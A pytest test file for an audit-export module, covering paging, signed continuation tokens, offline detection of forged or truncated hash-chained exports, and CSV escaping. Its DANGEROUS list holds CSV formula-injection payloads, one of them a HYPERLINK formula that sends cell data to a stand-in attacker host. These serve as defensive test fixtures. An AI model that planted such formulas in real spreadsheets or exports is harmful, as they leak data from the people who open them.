"""Paged audit exports on in-memory fakes: pages of bounded size that together are the whole
export, signed and expiring continuations, the offline check of an exported file against every
kind of tampering and truncation, and CSV that no spreadsheet runs, read with `,` or `;`."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from shared.audit import GENESIS_HASH, canonical_json, chain_entry, record_hash
from shared.audit_export import (
    CONTINUATION_TTL,
    CSV_FIELDS,
    FORMULA_STARTS,
    AuditExport,
    csv_row,
    export_lines,
    verify_export,
)
from shared.audit_query import AuditFilter
from shared.errors import InvalidInput
from shared.models import Actor, AuditEntry, AuditEvent
from tests.unit.test_audit_query import KEY, CountingStore, entry, trail

NOW = datetime(2026, 3, 14, 9, 30, tzinfo=UTC)


class Checkpoints:
    """`AuditCheckpoints` over a list."""

    def __init__(self, items: list[dict[str, Any]]) -> None:
        self.items = items

    async def checkpoints(self) -> AsyncIterator[dict[str, Any]]:
        for item in self.items:
            yield item


class Clock:
    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        return self.now


async def exporter(
    count: int, checkpoint_at: tuple[int, ...] = ()
) -> tuple[CountingStore, AuditExport, Clock]:
    store, _, query = await trail(entry(n, incident=f"INC-{n % 3}") for n in range(1, count + 1))
    marks = [
        {
            "at": f"2026-03-14T0{i}:00:00Z",
            "count": seq,
            "heads": {"chain": {"seq": seq, "hash": store.records[seq].hash, "position": seq}},
        }
        for i, seq in enumerate(checkpoint_at)
    ]
    clock = Clock()
    return store, AuditExport(query, Checkpoints(marks), KEY, clock), clock


async def every_line(
    export: AuditExport, flt: AuditFilter, fmt: str, limit: int
) -> tuple[list[str], list[int]]:
    sizes: list[int] = []
    lines = [
        line
        async for line in export_lines(export, flt, fmt, limit, lambda p: sizes.append(p.records))
    ]
    return lines, sizes


def items(lines: list[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in lines]


# Pages -----------------------------------------------------------------------------------------


async def test_a_whole_trail_export_has_a_header_checkpoints_records_newest_first_and_an_end() -> (
    None
):
    store, export, _ = await exporter(7, checkpoint_at=(3, 6))
    page = await export.page(AuditFilter(), "jsonl")
    assert page.continuation is None and page.records == page.total == 7
    found = items(page.lines)
    assert [item["type"] for item in found] == ["export", "checkpoint", "checkpoint"] + [
        "record"
    ] * 7 + ["end"]
    assert found[0]["whole_trail"] is True and found[0]["filter"] == {}
    assert found[0]["exported_at"] == "2026-03-14T09:30:00Z"
    assert [item["seq"] for item in found[3:-1]] == list(range(7, 0, -1))
    record = store.records[7]
    assert found[3] == {
        "type": "record",
        "chain": "chain",
        "seq": 7,
        "position": 7,
        "prev_hash": record.prev_hash,
        "hash": record.hash,
        "body": record.body,
    }
    assert found[-1] == {"type": "end", "records": 7, "checkpoints": 2}


@pytest.mark.parametrize("limit", [1, 2, 3, 5, 12, 13])
async def test_pages_of_any_size_add_up_to_the_one_page_export(limit: int) -> None:
    _, export, _ = await exporter(11, checkpoint_at=(2, 5, 9))
    whole = (await export.page(AuditFilter(), "jsonl")).lines
    paged, sizes = await every_line(export, AuditFilter(), "jsonl", limit)
    assert paged == whole
    assert all(size <= limit for size in sizes) and sum(sizes) == 11


async def test_each_page_reads_about_one_page_of_records() -> None:
    store, export, _ = await exporter(40)
    page = await export.page(AuditFilter(), "jsonl", limit=10)
    assert store.walked <= 11
    store.reset_counts()
    await export.page(AuditFilter(), "jsonl", 10, page.continuation)
    assert store.walked <= 11, "the next page starts where the last one stopped"


async def test_a_filtered_csv_export_pages_with_one_header() -> None:
    _, export, _ = await exporter(20)
    flt = AuditFilter(incident="INC-1")
    whole = (await export.page(flt, "csv")).lines
    paged, sizes = await every_line(export, flt, "csv", 2)
    assert paged == whole and whole[0] == ",".join(CSV_FIELDS) + "\r\n"
    rows = list(csv.reader(io.StringIO("".join(paged), newline="")))
    assert [int(row[0]) for row in rows[1:]] == [19, 16, 13, 10, 7, 4, 1]
    assert len(sizes) == 4


async def test_a_filtered_jsonl_export_says_so_and_carries_no_checkpoints() -> None:
    _, export, _ = await exporter(9, checkpoint_at=(4,))
    found = items((await export.page(AuditFilter(incident="INC-2"), "jsonl")).lines)
    assert found[0]["whole_trail"] is False and found[0]["filter"] == {"incident": "INC-2"}
    assert [item["type"] for item in found].count("checkpoint") == 0
    assert [item["seq"] for item in found if item["type"] == "record"] == [8, 5, 2]


async def test_records_appended_during_an_export_do_not_shift_its_pages() -> None:
    store, export, _ = await exporter(6)
    first = await export.page(AuditFilter(), "jsonl", limit=3)
    head = await store.head()
    assert head is not None
    await store.insert_all([chain_entry(7, head.hash, entry(7))], [])
    rest = await export.page(AuditFilter(), "jsonl", 3, first.continuation)
    lines = first.lines + rest.lines
    assert [item["seq"] for item in items(lines) if item["type"] == "record"] == [6, 5, 4, 3, 2, 1]
    assert verify_export(lines).ok


# Continuations ---------------------------------------------------------------------------------


async def test_edited_foreign_and_expired_continuations_are_refused() -> None:
    _, export, clock = await exporter(10)
    token = (await export.page(AuditFilter(), "jsonl", limit=3)).continuation
    assert token is not None
    payload, signature = token.split(".")
    state = json.loads(_unb64(payload))
    state[3] = 1  # skip to the end
    edited = _b64(json.dumps(state, separators=(",", ":")).encode()) + "." + signature
    refusals = {
        "edited": (AuditFilter(), "jsonl", edited),
        "resigned with another key": (
            AuditFilter(),
            "jsonl",
            (await _other_key_token(export)),
        ),
        "another filter": (AuditFilter(incident="INC-1"), "jsonl", token),
        "another format": (AuditFilter(), "csv", token),
        "garbage": (AuditFilter(), "jsonl", "not-a-token"),
        "too long": (AuditFilter(), "jsonl", "a" * 600 + "." + "b"),
    }
    for name, (flt, fmt, presented) in refusals.items():
        with pytest.raises(InvalidInput, match="invalid continuation"):
            await export.page(flt, fmt, 3, presented)
        assert name
    clock.now += CONTINUATION_TTL - timedelta(seconds=1)
    assert (await export.page(AuditFilter(), "jsonl", 3, token)).records == 3
    clock.now += timedelta(seconds=1)
    with pytest.raises(InvalidInput, match="expired"):
        await export.page(AuditFilter(), "jsonl", 3, token)


async def _other_key_token(export: AuditExport) -> str:
    store, _, query = await trail(entry(n) for n in range(1, 11))
    other = AuditExport(query, Checkpoints([]), b"another key" * 3, Clock())
    token = (await other.page(AuditFilter(), "jsonl", limit=3)).continuation
    assert token is not None
    return token


def _b64(data: bytes) -> str:
    import base64

    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unb64(text: str) -> bytes:
    import base64

    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


@pytest.mark.parametrize("limit", [0, 5001, True])
async def test_the_page_size_is_bounded(limit: int) -> None:
    _, export, _ = await exporter(1)
    with pytest.raises(InvalidInput, match="limit"):
        await export.page(AuditFilter(), "jsonl", limit)
    with pytest.raises(InvalidInput, match="format"):
        await export.page(AuditFilter(), "xls")


# The offline check -----------------------------------------------------------------------------


async def exported_file(count: int = 12, checkpoint_at: tuple[int, ...] = (4, 9)) -> list[str]:
    _, export, _ = await exporter(count, checkpoint_at)
    lines, _ = await every_line(export, AuditFilter(), "jsonl", 5)
    return lines


def record_lines(lines: list[str]) -> dict[int, int]:
    """Line index of each record by seq."""
    return {
        json.loads(line)["seq"]: i
        for i, line in enumerate(lines)
        if json.loads(line)["type"] == "record"
    }


async def test_an_intact_export_verifies_offline() -> None:
    lines = await exported_file()
    verdict = verify_export(lines)
    assert verdict.ok, verdict.problem
    assert (verdict.records_checked, verdict.checkpoints_checked) == (12, 2)
    assert verdict.whole_trail and verdict.head_seq == 12
    assert verdict.head_hash == json.loads(lines[3])["hash"]


async def test_a_filtered_export_verifies_each_record_but_not_the_links() -> None:
    _, export, _ = await exporter(12)
    lines, _ = await every_line(export, AuditFilter(incident="INC-0"), "jsonl", 5)
    verdict = verify_export(lines)
    assert verdict.ok and not verdict.whole_trail and verdict.records_checked == 4


def rewrite(lines: list[str], seq: int, change: Any) -> list[str]:
    at = record_lines(lines)[seq]
    item = json.loads(lines[at])
    change(item)
    return [*lines[:at], json.dumps(item, ensure_ascii=False) + "\n", *lines[at + 1 :]]


def rechain_from(lines: list[str], seq: int, reason: str) -> list[str]:
    """A forger's rewrite: record `seq` changed and every record from it re-hashed."""
    at = record_lines(lines)
    out = list(lines)
    prev = json.loads(lines[at[seq]])["prev_hash"]
    for n in range(seq, max(at) + 1):
        item = json.loads(lines[at[n]])
        body = json.loads(item["body"])
        if n == seq:
            body["reason"] = reason
        item["body"] = canonical_json(body)
        item["prev_hash"] = prev
        item["hash"] = prev = record_hash(n, prev, item["body"])
        out[at[n]] = json.dumps(item, ensure_ascii=False) + "\n"
    return out


def _changed_target(item: dict[str, Any]) -> None:
    body = json.loads(item["body"])
    body["target"] = "someone.else@contoso.com"
    item["body"] = canonical_json(body)


def _non_canonical(item: dict[str, Any]) -> None:
    item["body"] = json.dumps(json.loads(item["body"]), sort_keys=True)  # with spaces
    item["hash"] = record_hash(item["seq"], item["prev_hash"], item["body"])


def _drop(lines: list[str], *seqs: int) -> list[str]:
    at = record_lines(lines)
    gone = {at[seq] for seq in seqs}
    return [line for i, line in enumerate(lines) if i not in gone]


def _swap(lines: list[str], a: int, b: int) -> list[str]:
    at = record_lines(lines)
    out = list(lines)
    out[at[a]], out[at[b]] = lines[at[b]], lines[at[a]]
    return out


def _drop_newest(lines: list[str], count: int) -> list[str]:
    """The newest records removed and the end line's count made to match: only a checkpoint
    tells."""
    out = _drop(lines, *range(12, 12 - count, -1))
    end = json.loads(out[-1])
    end["records"] -= count
    return [*out[:-1], json.dumps(end) + "\n"]


TAMPERING = {
    "changed field": (lambda lines: rewrite(lines, 6, _changed_target), 6, "content"),
    "changed hash": (lambda lines: rewrite(lines, 5, lambda i: i.update(hash="0" * 64)), 5, ""),
    "broken link": (
        lambda lines: rewrite(lines, 8, lambda i: i.update(prev_hash="f" * 64)),
        8,
        "content",
    ),
    "deleted record": (lambda lines: _drop(lines, 3), 3, "missing"),
    "two records swapped": (lambda lines: _swap(lines, 7, 6), 6, "line"),
    "forged with a recomputed chain": (
        lambda lines: rechain_from(lines, 2, "nothing happened"),
        4,
        "checkpoint",
    ),
    "newest records deleted": (lambda lines: _drop_newest(lines, 4), 9, "checkpoint"),
    "non-canonical body": (lambda lines: rewrite(lines, 10, _non_canonical), 10, "canonical"),
    "oldest records deleted": (lambda lines: _drop(lines, 1, 2), 1, "missing"),
}


@pytest.mark.parametrize("kind", TAMPERING)
async def test_every_kind_of_tampering_names_the_first_broken_record(kind: str) -> None:
    tamper, first_broken, problem = TAMPERING[kind]
    verdict = verify_export(tamper(await exported_file()))
    assert not verdict.ok
    assert verdict.first_broken_seq == first_broken, verdict.problem
    assert problem in (verdict.problem or "")


async def test_a_rechained_forgery_without_a_checkpoint_is_seen_only_with_one() -> None:
    """Without checkpoints a consistent rewrite verifies; that is what they are for."""
    forged = rechain_from(await exported_file(checkpoint_at=()), 2, "nothing happened")
    assert verify_export(forged).ok


@pytest.mark.parametrize("cut", ["at-a-line-end", "in-a-line", "before-the-end-line"])
async def test_a_truncated_file_names_the_first_missing_record(cut: str) -> None:
    lines = await exported_file()
    at = record_lines(lines)
    if cut == "at-a-line-end":
        short, expected = lines[: at[7] + 1], 6
    elif cut == "in-a-line":
        short, expected = [*lines[: at[7]], lines[at[7]][:40]], 7
    else:
        short, expected = lines[:-1], None
    verdict = verify_export(short)
    assert not verdict.ok and verdict.first_broken_seq == expected
    assert "cut off" in (verdict.problem or "")


@pytest.mark.parametrize(
    "text", ["", "not json\n", '{"type":"record"}\n', '{"type":"export","version":9}\n']
)
def test_something_else_than_an_export_is_refused(text: str) -> None:
    verdict = verify_export(text.splitlines(keepends=True))
    assert not verdict.ok and verdict.records_checked == 0


async def test_text_after_the_end_line_is_refused() -> None:
    lines = await exported_file()
    verdict = verify_export([*lines, lines[5]])
    assert not verdict.ok and "after the end" in (verdict.problem or "")


async def test_records_with_actor_ids_export_and_verify() -> None:
    store, _, query = await trail([])
    actor = Actor(kind="engineer", name="lead@contoso.com", object_id="o-1", tenant_id="t-1")
    record = chain_entry(1, GENESIS_HASH, AuditEntry(event=AuditEvent.ACTION_APPROVED, actor=actor))
    await store.insert_all([record], [])
    export = AuditExport(query, Checkpoints([]), KEY, Clock())
    lines = (await export.page(AuditFilter(), "jsonl")).lines
    assert verify_export(lines).ok
    assert json.loads(json.loads(lines[1])["body"])["actor"]["object_id"] == "o-1"


# CSV -------------------------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
    "harmless;=1+1",
    "harmless; =1+1",
    "a,=1+1",
    "line one\n=1+1",
    "line one\r\n@SUM(1)",
    'quote "=1+1',
    "tab\t-2",
    "x;;+3;",
]


def readings(text: str) -> dict[str, list[list[str]]]:
    return {
        separator: list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
        for separator in (",", ";")
    }


@pytest.mark.parametrize("dangerous", DANGEROUS)
async def test_csv_runs_no_formula_read_with_a_comma_or_a_semicolon(dangerous: str) -> None:
    store, _, query = await trail([entry(1, actor=dangerous, reason=dangerous)])
    export = AuditExport(query, Checkpoints([]), KEY, Clock())
    text = "".join((await export.page(AuditFilter(), "csv")).lines)
    for separator, rows in readings(text).items():
        cells = [cell for row in rows for cell in row]
        started = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert started == [], f"read with {separator!r}"
        # A line break inside a cell, read with the wrong separator, starts a new row.
        lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
        assert not [line for line in lines if line.startswith(FORMULA_STARTS)]
    header, row = readings(text)[","]
    cells = dict(zip(header, row, strict=True))
    assert cells["reason"].replace("'", "") == dangerous.replace("'", "")
    assert cells["reason"].startswith("'") == dangerous.startswith(FORMULA_STARTS)


async def test_a_csv_cell_with_a_semicolon_is_quoted() -> None:
    store, _, query = await trail([entry(1, reason="Kennwort; Spray")])
    export = AuditExport(query, Checkpoints([]), KEY, Clock())
    text = "".join((await export.page(AuditFilter(), "csv")).lines)
    assert ',"Kennwort; Spray",' in text


async def test_csv_rows_carry_the_action_id_parameters_and_hash() -> None:
    store, _, query = await trail([entry(1, incident="INC-1")])
    record = store.records[1]
    assert record.entry.params == {}
    export = AuditExport(query, Checkpoints([]), KEY, Clock())
    text = "".join((await export.page(AuditFilter(), "csv")).lines)
    header, row = readings(text)[","]
    cells = dict(zip(header, row, strict=True))
    assert cells == csv_row(record)
    assert (cells["action_id"], cells["params"], cells["hash"]) == ("act-1", "{}", record.hash)
    assert cells["at"].endswith("Z") and cells["incident_id"] == "INC-1"
